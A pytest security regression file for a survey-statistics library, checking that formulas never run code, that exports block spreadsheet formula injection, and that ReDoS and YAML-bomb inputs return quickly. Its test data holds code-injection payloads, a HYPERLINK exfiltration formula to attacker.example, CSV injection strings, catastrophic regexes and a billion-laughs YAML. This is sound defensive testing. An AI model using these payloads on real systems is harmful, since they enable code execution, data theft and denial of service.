"""Nothing from a formula, form or file runs as code; text never becomes a spreadsheet
formula; inputs that used to hang return in under 2 s."""

from __future__ import annotations

import json
import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hostile_data import design, design_frame, module_text

import questionnaires
from estimation.indicators.export import to_csv, to_excel, to_sdmx_csv
from migsurvey.io import write_table
from surveycore import SurveyError
from weighting import Weights

ROOT = Path(__file__).resolve().parents[2]


def _payloads(marker: Path) -> list[str]:
    m = str(marker)
    return [
        f"I(__import__('os').system('touch {m}'))",
        f"__import__('os').system('touch {m}')",
        f"I(open('{m}', 'w'))",
        f"C(x, __import__('os').system('touch {m}'))",
        f"log(__import__('pathlib').Path('{m}').touch())",
        "I(x.__class__)",
        "I((lambda: 1)())",
        "I([c for c in ()])",
        "I(x if x else x)",
        "I(x)[0]",
        "I(x; y)",
        f"`x` + I(exec('open(\"{m}\", \"w\")'))",
        f"Q('x') + Q(__import__('os').system('touch {m}'))",
        "poly(x, __import__('os').getpid())",
    ]


@pytest.mark.parametrize("k", range(14))
def test_25_D60_glm_formula_never_runs_code(tmp_path, monkeypatch, k):
    monkeypatch.chdir(tmp_path)
    marker = tmp_path / "pwned"
    payload = _payloads(marker)[k]
    with pytest.raises(SurveyError) as info:
        design().glm(f"y ~ x + {payload}")
    assert info.value.argument == "formula"
    assert not marker.exists() and list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("k", range(14))
def test_26_W47_propensity_formula_never_runs_code(tmp_path, monkeypatch, k):
    monkeypatch.chdir(tmp_path)
    marker = tmp_path / "pwned"
    df = design_frame().assign(disp=np.where(np.arange(48) % 4 == 0, 2.0, 1.1))
    with pytest.raises(SurveyError):
        Weights(df, "w").adjust_propensity("disp", "x + " + _payloads(marker)[k])
    assert not marker.exists() and list(tmp_path.iterdir()) == []


def test_refusal_names_the_term():
    with pytest.raises(SurveyError, match="__import__"):
        design().glm("y ~ x + __import__('os')")
    with pytest.raises(SurveyError, match="system"):
        design().glm("y ~ x + system(x)")
    with pytest.raises(SurveyError, match="'nope'"):
        design().glm("y ~ x + nope")


def test_whitelisted_formulas_still_fit():
    df = design_frame().assign(age=np.arange(48) % 40 + 20.0)
    d = design(df)
    res = d.glm("y ~ x + C(g) + I(z ** 2 / 100) + log(z) + exp(x / 10) + sex:x + poly(age, 2)")
    assert np.isfinite(res.se).all()
    assert res.terms[:4] == ["(Intercept)", "x", "C(g)02", "C(g)03"]
    assert "sexM:x" in res.terms and "poly(age, 2)2" in res.terms


# -- formula injection in spreadsheets -------------------------------------------------------
EVIL = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'


def _cells(path: Path) -> list[openpyxl.cell.Cell]:
    book = openpyxl.load_workbook(path)
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row]


def test_27_Q33_xlsform_label_is_text_not_formula(tmp_path):
    form = questionnaires.load("core")
    form.survey[1]["label"] = EVIL
    path = tmp_path / "evil.xlsx"
    form.to_xlsform(path)
    cells = _cells(path)
    assert any(c.value == EVIL for c in cells)
    assert all(c.data_type != "f" for c in cells)
    xml = b"".join(zipfile.ZipFile(path).read(n) for n in zipfile.ZipFile(path).namelist()
                   if n.startswith("xl/worksheets/"))
    assert b"<f>" not in xml


class _Result:
    """The shape of an IndicatorTable that exports read: a tidy table and metadata."""

    def __init__(self):
        self.table = pd.DataFrame({"region": [EVIL, "+SUM(A1)", "North"], "indicator": "MI1.1",
                                   "variable": "MI1.1",
                                   "measure": "count", "estimate": [1.0, 2.0, -3.0],
                                   "se": 0.1, "ci_low": 0.0, "ci_high": 5.0, "cv": 0.1,
                                   "df": 10.0, "n": 5, "suppressed": "",
                                   "reliability": "reliable"})
        self.metadata = {"by": ["region"], "indicators": {}}


def test_27_indicator_exports_write_no_formula(tmp_path):
    result = _Result()
    to_excel(result, tmp_path / "t.xlsx")
    cells = _cells(tmp_path / "t.xlsx")
    assert any(c.value == EVIL for c in cells) and all(c.data_type != "f" for c in cells)
    to_csv(result, tmp_path / "t.csv")
    text = (tmp_path / "t.csv").read_text(encoding="utf-8")
    back = pd.read_csv(tmp_path / "t.csv")
    assert back["region"].tolist() == ["'" + EVIL, "'+SUM(A1)", "North"]
    assert back["estimate"].tolist() == [1.0, 2.0, -3.0]  # numbers are never touched
    assert "\n=" not in text and ",=" not in text
    # SDMX carries codes, not free text: a label that is not a code is refused, and nothing
    # is written
    with pytest.raises(SurveyError, match="not a valid SDMX code"):
        to_sdmx_csv(result, tmp_path / "t.sdmx.csv")
    assert not (tmp_path / "t.sdmx.csv").exists()


def test_27_data_files_write_no_formula(tmp_path):
    df = pd.DataFrame({"id": ["0001", "0002"], "note": [EVIL, "@cmd"], "w": [1.5, -2.0]})
    write_table(df, tmp_path / "d.xlsx")
    assert all(c.data_type != "f" for c in _cells(tmp_path / "d.xlsx"))
    write_table(df, tmp_path / "d.csv")
    back = pd.read_csv(tmp_path / "d.csv", dtype={"id": str})
    assert back["note"].tolist() == ["'" + EVIL, "'@cmd"]
    assert back["id"].tolist() == ["0001", "0002"] and back["w"].tolist() == [1.5, -2.0]


# -- former hangs: each in its own process, timed after the imports ---------------------------
HANGS = {
    "28_C21_validate_redos": """
        path = Path(sys.argv[1]) / "redos.yaml"
        path.write_text(MODULE, encoding="utf-8")
        form = questionnaires.load(str(path))
        start = time.process_time()
        form.validate(pd.DataFrame({"t": ["a" * 30 + "!", "a" * 100_000 + "!"]}))
    """,
    "29_C22_evaluate_redos_data_pattern": """
        start = time.process_time()
        try:
            questionnaires.evaluate("regex(${a}, ${b})",
                                    pd.DataFrame({"a": ["a" * 30 + "!"], "b": ["(a+)+$"]}))
        except SurveyError:
            pass
    """,
    "28_literal_redos_pattern": """
        start = time.process_time()
        questionnaires.evaluate("regex(${a}, '(a+)+$')",
                                pd.DataFrame({"a": ["a" * 50_000 + "!"] * 20}))
    """,
    "30_C10_yaml_billion_laughs": """
        text = "a0: &a0 [x, x, x, x, x, x, x, x, x, x]\\n" + "".join(
            f"a{k}: &a{k} [" + ", ".join([f"*a{k - 1}"] * 10) + "]\\n" for k in range(1, 9))
        start = time.process_time()
        try:
            load_yaml(text, "bomb.yaml")
        except SurveyError:
            pass
    """,
    "38_C09_yaml_recursive_alias": """
        start = time.process_time()
        try:
            load_yaml("estimation:\\n  by: &x [*x]\\n", "rec.yaml")
        except SurveyError:
            pass
    """,
    "formula_pathological": """
        d = SurveyDesign(pd.DataFrame({"psu": range(6), "w": 1.0, "y": range(6), "x": range(6)}),
                         ids="psu", weights="w")
        start = time.process_time()
        for text in ["y ~ " + "(" * 5000 + "x" + ")" * 5000, "y ~ " + " + ".join(["x"] * 3000),
                     "y ~ I(" + "x * " * 3000 + "x)"]:
            try:
                d.glm(text)
            except SurveyError:
                pass
    """,
}

PRELUDE = """
import sys, time
from pathlib import Path
import pandas as pd
import questionnaires
from estimation import SurveyDesign
from surveycore import SurveyError
from surveycore.safe_yaml import load_yaml
MODULE = {module!r}
"""


@pytest.fixture(scope="module")
def hang_timings(tmp_path_factory):
    """Run every former hang in one fresh process (a hang fails the 60 s guard, not the
    suite); each case is timed in CPU seconds after the imports (not wall time on a busy machine)."""
    folder = tmp_path_factory.mktemp("hangs")
    body = ""
    for case, snippet in HANGS.items():
        body += textwrap.dedent(snippet) + f"timings[{case!r}] = time.process_time() - start\n"
    code = ("import json\n" + PRELUDE.format(module=module_text("regex(., '(a+)+$')"))
            + "timings = {}\n" + body + "print(json.dumps(timings))\n")
    proc = subprocess.run([sys.executable, "-c", code, str(folder)], cwd=ROOT,
                          capture_output=True, text=True, timeout=60)
    assert proc.returncode == 0, proc.stderr[-2000:]
    return json.loads(proc.stdout.strip().splitlines()[-1])


@pytest.mark.parametrize("case", sorted(HANGS))
def test_former_hangs_return_in_under_two_seconds(hang_timings, case):
    assert hang_timings[case] < 2.0, f"{case}: {hang_timings[case]:.2f} s"
